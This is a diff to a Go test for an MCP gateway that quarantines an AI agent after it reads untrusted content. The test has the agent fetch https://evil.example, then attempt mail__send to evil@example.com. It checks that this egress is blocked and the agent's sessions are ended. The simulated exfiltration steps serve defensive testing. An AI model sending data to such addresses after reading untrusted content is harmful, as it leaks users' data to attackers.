@@ -51,9 +51,12 @@ func TestResponseReachesEveryEnforcementPoint(t *testing.T) {
 		t.Fatalf("the proxy before the attack: HTTP %d %s", status, body)
 	}
 
-	s := r.session(a, "", nil)
+	s := r.session(a, "2025-11-25", nil) // a protocol version with sessions
 	if !r.call(s, "web__fetch", map[string]any{"url": "https://evil.example"}) {
 		t.Fatal("the untrusted read was denied")
+	}
+	if !slices.Contains(r.gw.MCP.Agents(), id) {
+		t.Fatalf("the gateway does not list the agent's session: %v", r.gw.MCP.Agents())
 	}
 	if r.call(s, "mail__send", map[string]any{"to": "evil@example.com"}) {
 		t.Fatal("egress after untrusted content was allowed")
@@ -73,7 +76,13 @@ func TestResponseReachesEveryEnforcementPoint(t *testing.T) {
 		time.Sleep(5 * time.Millisecond)
 	}
 
-	// The MCP gateway, on the session the agent has.
+	// The gateway ends the sessions the agent holds.
+	for deadline := time.Now().Add(10 * time.Second); slices.Contains(r.gw.MCP.Agents(), id); time.Sleep(5 * time.Millisecond) {
+		if time.Now().After(deadline) {
+			t.Fatal("the quarantined agent still holds its MCP session 10 s later")
+		}
+	}
+	// The MCP gateway, on the session the agent had.
 	if _, err := s.CallTool(r.ctx, &mcp.CallToolParams{Name: "kb__search", Arguments: map[string]any{}}); err == nil {
 		t.Error("the MCP gateway let the quarantined agent call a tool")
 	}
